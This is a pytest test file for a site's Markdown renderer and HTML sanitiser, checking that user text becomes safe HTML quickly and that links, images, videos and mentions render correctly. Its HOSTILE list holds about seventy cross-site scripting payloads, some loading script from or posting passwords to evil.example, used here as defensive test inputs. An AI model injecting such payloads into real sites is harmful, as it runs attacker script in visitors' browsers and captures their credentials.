"""What people write becomes safe HTML, whatever they write, and in good time."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from community.core.markdown import ATTRIBUTES, TAGS, plain_text, render_markdown, sanitise_html

HOSTILE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='/media/x.webp' onload=alert(1)>",
    '<img src="/media/x.webp" srcset="https://evil.example/x 2x">',
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    '<math><mtext><table><mglyph><style><img src="x" onerror="alert(1)">',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="java\tscript:alert(1)">x</a>',
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href=&#x6A;avascript:alert(1)>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p class='button button--primary'>x</p>",
    "<div class=messages id=messages>x</div>",
    "<div hx-get='/me/' hx-trigger=load>x</div>",
    "<p data-hx-post=/p/1/delete/ hx-vals='{}'>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '[x](https://a.example "\\"onmouseover=alert(1)")',
    '![x](https://evil.example/a.png "onerror=alert(1)")',
    '![" onerror="alert(1)](/media/a.webp)',
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](//evil.example/a.png)",
    "![x](/media/../admin/)",
    '``` "><script>alert(1)</script>\ncode\n```',
    "```html onclick=alert(1)\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    'https://a.example/"onmouseover="alert(1)',
    'https://www.youtube.com/watch?v="><script>alert(1)</script>',
    '@"><script>alert(1)</script>',
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
)


class Faults(HTMLParser):
    """Reads HTML as a browser does, and notes whatever could run, look or act like a part of the site."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.images: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            text = (value or "").strip()
            if name != "rel" and name not in ATTRIBUTES.get(tag, ()):
                self.found.append(f"<{tag} {name}>")
            if name == "class" and not re.fullmatch(r"mention|video|scroll|language-[\w+#.-]{1,30}", text):
                self.found.append(f"class={text}")
            if name in {"href", "src"} and re.match(r"(?!https?:|mailto:)[a-z][a-z0-9+.-]*:", text, re.IGNORECASE):
                self.found.append(f"{name}={text}")
            if name == "data-video" and not text.startswith(
                ("https://www.youtube-nocookie.com/embed/", "https://player.vimeo.com/video/")
            ):
                self.found.append(f"data-video={text}")
            if tag == "img" and name == "src":
                self.images.append(text)

    handle_startendtag = handle_starttag


def faults(html: str) -> list[str]:
    read = Faults(html)
    return read.found + [source for source in read.images if not source.startswith("/media/")]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_comes_through_markdown(text: str) -> None:
    assert faults(render_markdown(text)) == []
    assert faults(render_markdown(f"> - **{text}**", mentions={"x": "/m/x"}, trusted=False)) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_comes_through_imported_html(text: str) -> None:
    assert faults(sanitise_html(text)) == []


PIECES = ("<", ">", '"', "'", "&", "`", "![", "](", ")", "[", "]", "\n", "> ", "- ", "# ", "javascript:", "onerror=",
          "<script>", "<img src=", "https://", "@amina", "|", "\x00", "\\", "&#x6A;", "data:", "*", "~~")  # fmt: skip


@settings(max_examples=150)
@given(st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=6)), max_size=30).map("".join))
def test_no_mixture_of_markup_comes_through(text: str) -> None:
    html = render_markdown(text, mentions={"amina": "/m/amina"})
    assert faults(html) == []
    assert "<" not in re.sub(r"&lt;|<[^<>]*>", "", html)
    plain_text(html)


@pytest.mark.parametrize(
    "text",
    [
        "[" * 30_000,
        "![" * 15_000,
        "> " * 15_000 + "x",
        "- " * 15_000 + "x",
        "".join(f"{' ' * level * 2}- x\n" for level in range(150)),
        "*a **b " * 4_500,
        "`" * 30_000,
        "<" * 30_000,
        "[x](" * 7_500,
        "(" * 30_000,
        "|" * 30_000,
        "| a " * 3_000 + "|\n" + "|---" * 3_000 + "|\n",
        "https://a.example/x " * 1_600,
        "@a" * 15_000,
        "a@" * 15_000,
        "&" * 30_000,
        "~~" * 15_000,
        "_a" * 15_000,
        "\\" * 30_000,
        "[a]: b\n" * 4_000,
        "😀" * 30_000,
        "://" * 10_000,
        "http://" * 4_500,
        "http://[" * 4_000,
        "x:// " * 6_000,
        "www." * 8_000,
        "a.b" * 10_000,
    ],
    ids=lambda text: text[:8].encode("unicode_escape").decode(),
)
def test_no_text_of_the_longest_length_takes_long(text: str) -> None:
    started = time.process_time()
    html = render_markdown(text)
    assert time.process_time() - started < 6
    assert faults(html) == []
    started = time.process_time()
    plain_text(html)
    assert time.process_time() - started < 1


def test_headings_start_below_the_pages_own() -> None:
    html = render_markdown("# One\n\n## Two\n\n###### Six\n\nUnder\n=====")
    assert re.findall(r"<h(\d)>", html) == ["3", "4", "6", "3"]


def test_images_of_other_sites_become_links() -> None:
    html = render_markdown("![A tap](https://other.example/tap.png)")
    assert html == '<p><a href="https://other.example/tap.png" rel="noopener">A tap</a></p>\n'


def test_uploaded_images_have_their_size_and_load_late() -> None:
    html = render_markdown("![A tap](/media/posts/2026/11/x-800x600.webp)")
    for part in ('width="800"', 'height="600"', 'loading="lazy"', 'alt="A tap"'):
        assert part in html


@pytest.mark.parametrize(
    ("address", "player"),
    [
        ("https://www.youtube.com/watch?v=dQw4w9WgXcQ", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
        ("https://youtu.be/dQw4w9WgXcQ", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
        ("https://vimeo.com/123456", "https://player.vimeo.com/video/123456"),
    ],
)
def test_a_video_alone_in_its_paragraph_waits_for_a_click(address: str, player: str) -> None:
    html = render_markdown(f"Look:\n\n{address}\n")
    assert f'<figure class="video" data-video="{player}"><a href="{address}"' in html
    assert "<iframe" not in html
    assert "<figure" not in render_markdown(f"Look: {address}")
    assert "<figure" not in render_markdown("https://evil.example/watch?v=dQw4w9WgXcQ")


def test_links_of_untrusted_authors_are_not_followed() -> None:
    assert 'rel="nofollow ugc noopener"' in render_markdown("https://a.example", trusted=False)
    assert "nofollow" not in render_markdown("https://a.example")


def test_mentions_link_only_to_members_and_not_in_code_or_links() -> None:
    known = {"amina": "/m/amina"}
    assert 'href="/m/amina" class="mention"' in render_markdown("Ask @Amina.", mentions=known)
    for text in ("`@amina`", "a@amina.example", "[@amina](https://a.example)", "@aminata", "    @amina\n"):
        assert "mention" not in render_markdown(text, mentions=known), text


@pytest.mark.parametrize(
    ("text", "html"),
    [
        (
            "See https://a.example/b_c_d.",
            'See <a href="https://a.example/b_c_d" rel="noopener">https://a.example/b_c_d</a>.',
        ),
        ("**https://a.example**", '<strong><a href="https://a.example" rel="noopener">https://a.example</a></strong>'),
        ("(HTTP://a.example)", '(<a href="HTTP://a.example" rel="noopener">HTTP://a.example</a>)'),
        ("xhttp://a.example x://b", "xhttp://a.example x://b"),
        ("https://", "https://"),
    ],
)
def test_addresses_are_links_where_they_stand(text: str, html: str) -> None:
    assert render_markdown(text) == f"<p>{html}</p>\n"


def test_tables_scroll_by_themselves() -> None:
    assert '<div class="scroll" tabindex="0" role="group"><table>' in render_markdown("| a |\n|---|\n| b |")


def test_plain_text_is_the_words() -> None:
    html = render_markdown('# A\n\n- b & c\n- <d>\n\n[e](https://x.example "1 > 2")\n\n![f > g](/media/x-1x1.webp)')
    assert plain_text(html) == "A\nb & c\n<d>\ne"
